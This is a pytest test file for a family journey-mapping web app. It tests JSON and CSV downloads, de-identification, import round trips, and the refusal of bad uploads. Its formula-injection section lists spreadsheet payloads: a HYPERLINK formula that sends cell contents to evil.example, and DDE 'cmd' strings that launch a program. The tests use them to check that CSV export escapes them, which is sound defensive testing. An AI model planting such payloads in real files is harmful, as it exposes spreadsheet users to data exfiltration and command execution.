"""The Data page: JSON and CSV downloads (de-identified unless full detail is chosen, each recorded
in the history), and importing a JSON file as a new map through the upload form.

JSON in and out (exports/json_in.py, json_out.py, domain/imports.py) and CSV have their own unit
tests (tests/unit/test_interchange.py); these go through the routes: the page for every role, the
round trip export -> upload -> export, every kind of bad upload, and formula injection in every
text cell of the CSVs a browser downloads.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from sqlalchemy import func, select

from journeymap.domain.barriers import add_barrier
from journeymap.domain.family import add_member, start_map
from journeymap.domain.journey import add_stage, add_touchpoint
from journeymap.domain.people import add_agency, add_caseworker
from journeymap.extensions import db
from journeymap.models import HistoryEntry, Membership
from tests import markup
from tests.actors import SETUP
from tests.conftest import count_maps
from tests.markup import select_one
from tests.routes.conftest import FACILITATOR, add_to_map, client_as, html, make_user, user_id

ROLES = ["facilitator", "family", "caseworker", "contributor", "viewer"]
FORMATS = {"json": "application/json", "touchpoints-csv": "text/csv", "barriers-csv": "text/csv"}
IMPORTER = "ines@example.org"


def export(client, map_id: int, fmt: str, detail: str | None = None):
    data = {"format": fmt, **({"detail": detail} if detail else {})}
    return client.post(f"/maps/{map_id}/data/export", data=data)


def upload(client, content: bytes | None, filename: str = "m.json"):
    """What the import form sends: a multipart body with the file (or without one)."""
    data = {} if content is None else {"file": (io.BytesIO(content), filename)}
    return client.post("/maps/import", data=data, content_type="multipart/form-data")


def exported(map_id: int) -> list[HistoryEntry]:
    db.session.expire_all()
    return list(db.session.scalars(
        select(HistoryEntry).where(HistoryEntry.map_id == map_id, HistoryEntry.action == "exported")
        .order_by(HistoryEntry.id)
    ))


def new_map_id(response) -> int:
    assert response.status_code == 303, html(response)[:3000]
    match = re.fullmatch(r"/maps/(\d+)", response.headers["Location"])
    assert match, response.headers["Location"]
    return int(match.group(1))


@pytest.fixture
def importer(app):
    """Someone on no map, who imports."""
    make_user(IMPORTER, "Ines Importer")
    db.session.commit()
    return client_as(app, IMPORTER)


# The page -------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ROLES)
def test_the_data_page_for_every_role(app, small, role):
    email = FACILITATOR if role == "facilitator" else f"{role}@example.org"
    if role != "facilitator":
        add_to_map(small.id, email, role)
    member = client_as(app, email)
    response = member.get(f"/maps/{small.id}/data")
    assert response.status_code == 200
    body = html(response)
    assert f'action="/maps/{small.id}/data/export"' in body
    for fmt in FORMATS:
        assert f'name="format" value="{fmt}"' in body
    may_choose = role in ("facilitator", "family")
    assert ('name="detail" value="full"' in body) == may_choose
    if not may_choose:
        assert '<input type="hidden" name="detail" value="deidentified">' in body
    assert 'href="/maps/import"' in body
    # Every role may download, de-identified.
    assert export(member, small.id, "json").status_code == 200


def test_looking_at_the_data_page_writes_nothing(client, small):
    before = db.session.scalar(select(func.count()).select_from(HistoryEntry))
    client.get(f"/maps/{small.id}/data")
    client.get("/maps/import")
    assert db.session.scalar(select(func.count()).select_from(HistoryEntry)) == before


# Downloads ------------------------------------------------------------------------------------


@pytest.mark.parametrize("detail", [None, "deidentified", "full"])
@pytest.mark.parametrize("fmt", list(FORMATS))
def test_every_download_is_an_attachment_recorded_in_the_history(client, small, fmt, detail):
    response = export(client, small.id, fmt, detail)
    assert response.status_code == 200
    assert response.mimetype == FORMATS[fmt]
    disposition = response.headers["Content-Disposition"]
    # The map's id names the file, never the family's pseudonym.
    assert disposition.startswith(f'attachment; filename="journeymap-{small.id}')
    assert "Family" not in disposition
    assert response.headers["Cache-Control"] == "private, no-store"
    (entry,) = exported(small.id)
    full = detail == "full"
    assert entry.summary.endswith("full detail" if full else "de-identified")
    assert entry.changes["format"] == fmt
    assert entry.changes["detail"] == ("full" if full else "deidentified")
    assert entry.actor_name == "Fran Facilitator" and entry.actor_role == "facilitator"


def test_json_is_format_version_4_without_ids_with_the_follow_ups_dates(client, demo_id):
    document = json.loads(export(client, demo_id, "json", "full").get_data())
    assert (document["format"], document["format_version"]) == ("journeymap", 4)
    text = json.dumps(document)
    for leftover in ('"id"', "created_by", "updated", "revision", "version\": 1", "position"):
        assert leftover not in text, leftover
    assert document["meetings"] and any(b["commitments"] for b in document["barriers"])
    assert all(b["created_at"] for b in document["barriers"])  # in full detail, when each was added
    assert document["family"]["situation"]  # the story, in full detail
    plain = json.loads(export(client, demo_id, "json").get_data())
    assert plain["family"]["situation"] == plain["family"]["hopes"] == ""
    assert all(b["created_at"] is None for b in plain["barriers"])  # REMOVED, as declared
    assert all(c["name"] == "" for c in plain["caseworkers"])
    assert len(plain["touchpoints"]) == len(document["touchpoints"])


@pytest.mark.parametrize("fmt", ["touchpoints-csv", "barriers-csv"])
def test_csv_opens_with_a_byte_order_mark_and_crlf(client, demo_id, fmt):
    body = export(client, demo_id, fmt, "full").get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.count(b"\r\n") >= 2 and b"\n" not in body.replace(b"\r\n", b"")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[0][0] in ("Step", "Barrier")  # the mark is not part of the first header
    assert len({len(row) for row in rows}) == 1


def test_a_download_of_an_unknown_format_or_map(client, small, other):
    assert export(client, small.id, "xml").status_code == 404
    assert client.post(f"/maps/{small.id}/data/export", data={}).status_code == 404
    assert export(client, 9999, "json").status_code == 404
    assert client.get(f"/maps/{small.id}/data/export").status_code == 405
    assert exported(small.id) == []


# Formula injection in every text cell ---------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


def injected_map(payload: str) -> int:
    """Every text field that reaches a CSV starts with the payload (typed through the domain
    functions: the forms strip leading tabs and refuse carriage returns, an imported file does not)."""
    m = start_map(f"Family {payload}", payload, payload)
    add_member(m, payload, "unsaid", actor=SETUP)
    stage = add_stage(m, payload, actor=SETUP)
    agency = add_agency(m, payload, "other", actor=SETUP)
    named = add_caseworker(m, name=payload, role=payload, agency_id=agency.id, actor=SETUP)
    role_only = add_caseworker(m, name="", role=payload, agency_id=None, actor=SETUP)
    tp1 = add_touchpoint(m, stage_id=stage.id, action=payload, place=payload, agency_id=agency.id,
                         caseworker_id=named.id, documents=f"{payload}\n{payload}", days_waited=3,
                         feeling=-2, actor=SETUP)
    tp2 = add_touchpoint(m, stage_id=None, action=payload, caseworker_id=role_only.id, feeling=-1,
        actor=SETUP)
    add_barrier(m, [tp1.id], title=payload, description=payload,
        actor=SETUP)
    add_barrier(m, [tp1.id, tp2.id], title=payload, description=payload, owner_caseworker_id=named.id,
        actor=SETUP)
    add_barrier(m, [tp2.id], title=payload, description=payload, owner_agency_id=agency.id, actor=SETUP)
    add_barrier(m, [], title=payload, description=payload, owner_caseworker_id=role_only.id, actor=SETUP)
    db.session.commit()
    add_to_map(m.id, FACILITATOR, "facilitator")
    return m.id


def csv_rows(body: bytes) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    return list(reader)


# Numbers the CSV writes itself, as numbers: they must still sort and sum.
NUMBER_COLUMNS = {"Step", "Days waited", "Feeling score (-2 to +2)", "Barrier", "Touchpoints"}


@pytest.mark.parametrize("detail", ["deidentified", "full"])
@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_no_csv_cell_can_start_a_formula(client, app, payload, detail):
    map_id = injected_map(payload)
    for fmt in ("touchpoints-csv", "barriers-csv"):
        rows = csv_rows(export(client, map_id, fmt, detail).get_data())
        assert rows
        for row in rows:
            for column, cell in row.items():
                if column in NUMBER_COLUMNS:
                    assert re.fullmatch(r"-?\d*", cell), (column, cell)
                else:
                    assert not cell.startswith(FORMULA_STARTS), (fmt, detail, column, cell)
    escaped = "'" + payload
    touchpoints = csv_rows(export(client, map_id, "touchpoints-csv", detail).get_data())
    barriers = csv_rows(export(client, map_id, "barriers-csv", detail).get_data())
    # What was typed is all there, after the apostrophe.
    assert touchpoints[0]["Agency"] == escaped  # agency names are kept when de-identified
    assert barriers[2]["Owning agency"] == escaped
    if detail == "full":
        first = touchpoints[0]
        assert first["What the family had to do"] == first["Where"] == first["Stage"] == escaped
        assert first["Caseworker"] == f"'{payload}, {payload}"
        assert barriers[0]["Title"] == barriers[0]["What happened"] == escaped
        assert barriers[1]["Owning caseworker"] == f"'{payload}, {payload}"
        assert touchpoints[1]["Caseworker"] == barriers[3]["Owning caseworker"] == escaped
    assert touchpoints[0]["Feeling score (-2 to +2)"] == "-2"  # a number of ours, left alone
    assert touchpoints[0]["Days waited"] == "3"


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_an_imported_file_cannot_smuggle_a_formula_into_the_csv(client, app, importer, payload):
    """A file's text is kept exactly (leading tabs included); the CSV still escapes it."""
    document = json.loads(export(client, injected_map(payload), "json", "full").get_data())
    assert document["touchpoints"][0]["action"] == payload
    new_id = new_map_id(upload(importer, json.dumps(document).encode()))
    rows = csv_rows(export(importer, new_id, "touchpoints-csv", "full").get_data())
    assert rows[0]["What the family had to do"] == "'" + payload


# Round trip through the routes ----------------------------------------------------------------


def tricky_map() -> int:
    """Text only a file can hold (spaces around it, tabs, CRLF, no stage), unicode, a caseworker
    with no agency, an owner who is only a caseworker, the family's own marks."""
    m = start_map("  Família É. — 🙂  ", "Line one\r\nLine two\ttabbed", "<b>warm</b> & safe")
    m.from_family = True
    add_member(m, "Mother", "25-44", from_family=True, actor=SETUP)
    add_member(m, "Grandma", "65+", actor=SETUP)
    stage = add_stage(m, "Crisis", actor=SETUP)
    add_stage(m, "Empty stage", actor=SETUP)
    agency = add_agency(m, "Same name", "county",
        actor=SETUP)
    add_agency(m, "Same name", "school", actor=SETUP)
    loner = add_caseworker(m, name="Solo", role="", agency_id=None, status="left", holds_file=False,
        actor=SETUP)
    t1 = add_touchpoint(m, stage_id=None, action="loose", caseworker_id=loner.id, channel="phone",
        actor=SETUP)
    t2 = add_touchpoint(
        m, stage_id=stage.id, action="first", agency_id=agency.id, feeling=0, days_waited=0,
        documents="ID, lease\nproof", retold_story=True, reported_by="family", from_family=True, actor=SETUP
    )
    add_barrier(m, [t1.id, t2.id], title="Two places", owner_caseworker_id=loner.id, severity="critical",
        actor=SETUP)
    add_barrier(m, [], title="Nowhere", from_family=True, actor=SETUP)
    db.session.commit()
    add_to_map(m.id, FACILITATOR, "facilitator")
    return m.id


@pytest.fixture(params=["small", "demo", "tricky"])
def source_map(request, app) -> int:
    if request.param == "tricky":
        return tricky_map()
    fixture = request.getfixturevalue("demo_id" if request.param == "demo" else "small")
    return fixture if isinstance(fixture, int) else fixture.id


def test_export_import_export_gives_the_same_file(client, importer, source_map):
    first = export(client, source_map, "json", "full").get_data()
    response = upload(importer, first, "family.json")
    new_id = new_map_id(response)
    assert new_id != source_map
    second = export(importer, new_id, "json", "full").get_data()
    assert second == first
    # The same holds for what the CSVs say (they name things by their text, not by key).
    for fmt in ("touchpoints-csv", "barriers-csv"):
        again = export(importer, new_id, fmt, "full").get_data()
        assert again == export(client, source_map, fmt, "full").get_data()


def test_the_importer_is_the_new_maps_facilitator_and_no_one_else(client, importer, small):
    new_id = new_map_id(upload(importer, export(client, small.id, "json", "full").get_data(), "family.json"))
    members = db.session.execute(
        select(Membership.user_id, Membership.role).where(Membership.map_id == new_id)
    ).all()
    assert members == [(user_id(IMPORTER), "facilitator")]
    assert importer.get(f"/maps/{new_id}").status_code == 200
    assert client.get(f"/maps/{new_id}").status_code == 404  # the exporter is not on the copy
    entries = db.session.scalars(select(HistoryEntry).where(HistoryEntry.map_id == new_id)).all()
    assert [(e.action, e.kind, e.actor_name, e.actor_role) for e in entries] == [
        ("added", "map", "Ines Importer", "facilitator")
    ]
    # How it came, and never the file's name: that is often the family's.
    assert entries[0].changes == {"via": "import"}
    # The source map is untouched but for its download being recorded.
    assert [e.changes["format"] for e in exported(small.id)] == ["json"]


def test_a_deidentified_file_imports_as_the_map_it_describes(client, importer, demo_id):
    plain = export(client, demo_id, "json").get_data()
    new_id = new_map_id(upload(importer, plain))
    full = json.loads(export(importer, new_id, "json", "full").get_data())
    # Next steps and progress must have a time they were added: the import's, where the file has none.
    for step in (c for b in full["barriers"] for c in b["commitments"]):
        assert step.pop("created_at") and all(p.pop("created_at") for p in step["progress"])
    for step in (c for b in json.loads(plain)["barriers"] for c in b["commitments"]):
        assert step["created_at"] is None
    assert full == without_added_at(json.loads(plain))
    document = json.loads(plain)
    assert document["family"]["situation"] == ""
    assert export(importer, new_id, "json").get_data() == plain  # nothing left to remove


def without_added_at(document: dict) -> dict:
    for step in (c for b in document["barriers"] for c in b["commitments"]):
        step.pop("created_at")
        for entry in step["progress"]:
            entry.pop("created_at")
    return document


def test_a_version_1_file_imports(client, importer, demo_id, view_of):
    from tests.unit.test_interchange import as_version_2, before_turnover
    from tests.version1 import map_to_dict

    old = json.dumps(map_to_dict(view_of(demo_id))).encode()
    new_id = new_map_id(upload(importer, old))
    again = json.loads(export(importer, new_id, "json", "full").get_data())
    demo = json.loads(export(client, demo_id, "json", "full").get_data())
    assert as_version_2(again) == before_turnover(as_version_2(demo))  # version 1 predates turnover


def test_a_version_2_file_imports_and_a_version_3_file_round_trips(client, importer, demo_id):
    from tests.unit.test_interchange import as_version_2

    current = export(client, demo_id, "json", "full").get_data()
    old = as_version_2(json.loads(current))
    old_id = new_map_id(upload(importer, json.dumps(old).encode()))
    again = json.loads(export(importer, old_id, "json", "full").get_data())
    assert as_version_2(again) == old and again["meetings"] == []
    assert export(importer, new_map_id(upload(importer, current)), "json", "full").get_data() == current


def test_the_import_page(importer):
    response = importer.get("/maps/import")
    assert response.status_code == 200
    body = html(response)
    assert 'enctype="multipart/form-data"' in body
    assert 'id="import-file"' in body and 'type="file"' in body
    assert '<label for="import-file">' in body


def test_importing_needs_a_signed_in_user(anonymous, client, small):
    document = export(client, small.id, "json", "full").get_data()
    before = count_maps()
    response = upload(anonymous, document)
    assert response.status_code in (302, 303)
    assert "/sign-in" in response.headers["Location"]
    assert count_maps() == before


# Bad uploads ----------------------------------------------------------------------------------


def _good() -> dict:
    return {
        "format": "journeymap", "format_version": 2,
        "family": {"pseudonym": "Family B."},
        "household": [],
        "agencies": [{"key": "a1", "name": "Office"}],
        "caseworkers": [],
        "stages": [],
        "touchpoints": [{"key": "t1", "action": "Called", "agency": "a1"}],
        "barriers": [],
    }


def _with(**changes) -> bytes:
    document = _good()
    for path, value in changes.items():
        *parents, last = path.split("__")
        target = document
        for part in parents:
            target = target[int(part)] if part.isdigit() else target[part]
        target[int(last) if last.isdigit() else last] = value
    return json.dumps(document).encode()


BAD_UPLOADS = {
    "not JSON": (b"pseudonym,situation\nFamily B.,evicted\n", "it is not valid JSON"),
    "empty file": (b"", "it is not valid JSON"),
    "only spaces": (b"   \n", "it is not valid JSON"),
    "not UTF-8": (b'{"format": "journeymap", "x": "\xff\xfe\xfa"}', "not UTF-8"),
    "a list": (b"[1, 2, 3]", "expected a JSON object at the top"),
    "a string": (b'"journeymap"', "expected a JSON object at the top"),
    "nested too deeply": (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
    "another format": (_with(format="trello"), "This is not a journeymap file"),
    "no format": (b'{"format_version": 2}', "format: missing"),
    "version 5": (_with(format_version=5), "version 5 is not supported (a newer journeymap wrote it"),
    "version as text": (_with(format_version="2"), "format_version: expected a whole number"),
    "no pseudonym": (_with(family={"situation": "x"}), "family.pseudonym"),
    "a broken reference": (_with(touchpoints__0__agency="a9"), "no agency 'a9'"),
    "a huge number": (_with(touchpoints__0__days_waited=10**30), "touchpoints[0].days_waited"),
    "an unknown channel": (_with(touchpoints__0__channel="pigeon"), "touchpoints[0].channel"),
    "a control character": (_with(family={"pseudonym": "Family \x07"}), "family.pseudonym"),
    # Past 4,300 digits Python will not read a number at all (it used to answer 500).
    "a number of 5,000 digits": (b'{"format": "journeymap", "format_version": 2' + b"0" * 5000 + b"}",
                                 "a number far too long"),
    "days waited of 5,000 digits": (_with(touchpoints__0__days_waited=0).replace(
        b'"days_waited": 0', b'"days_waited": 1' + b"0" * 5000), "a number far too long"),
}


def test_the_good_file_of_the_bad_cases_imports(importer):
    new_map_id(upload(importer, json.dumps(_good()).encode()))


def field_error(body: str) -> str:
    """The message shown next to the file field (and tied to it for screen readers)."""
    message = select_one(body, 'p.error[id="import-file-error"]')
    assert markup.select(body, 'input[aria-describedby~="import-file-error"]'), "not tied to the field"
    return message.text


@pytest.mark.parametrize(("content", "message"), list(BAD_UPLOADS.values()), ids=list(BAD_UPLOADS))
def test_a_bad_upload_is_refused_next_to_the_field(importer, content, message):
    before = count_maps()
    response = upload(importer, content)
    assert response.status_code == 422, html(response)[:2000]
    error = field_error(html(response))
    assert message in error, error
    assert error.startswith("Error: This file cannot be imported:"), error
    assert count_maps() == before


def test_an_upload_without_a_file(importer):
    before = count_maps()
    response = upload(importer, None)
    assert response.status_code == 422
    assert "Choose a .json file exported from journeymap." in field_error(html(response))
    assert count_maps() == before


def test_an_upload_with_an_empty_file_field(importer):
    """What a browser sends when no file was chosen: the field, with no name and no bytes."""
    before = count_maps()
    response = importer.post("/maps/import", data={"file": (io.BytesIO(b""), "")},
                             content_type="multipart/form-data")
    assert response.status_code == 422
    assert "Choose a .json file" in field_error(html(response))
    assert count_maps() == before


def test_a_17_mb_upload_is_refused_without_creating_a_map(importer):
    before = count_maps()
    huge = b'{"format": "journeymap", "format_version": 2, "padding": "' + b"x" * (17 * 1024 * 1024) + b'"}'
    response = upload(importer, huge)
    assert response.status_code == 413
    # Said next to the file field, on the import page.
    assert "This file is larger than 16 MB" in field_error(html(response))
    assert count_maps() == before


def test_a_too_large_request_elsewhere_gets_the_plain_page(client, small):
    response = client.post(f"/maps/{small.id}/data/export",
                           data={"format": "json", "x": "y" * (17 * 1024 * 1024)})
    assert response.status_code == 413
    assert "Too large" in html(response)


def test_a_file_just_under_the_limit_is_read(importer):
    """Size alone does not refuse a file under 16 MB: this one is read, and refused for its content."""
    padded = b'{"format": "other", "padding": "' + b"x" * (15 * 1024 * 1024) + b'"}'
    response = upload(importer, padded)
    assert response.status_code == 422
    assert "This is not a journeymap file" in field_error(html(response))
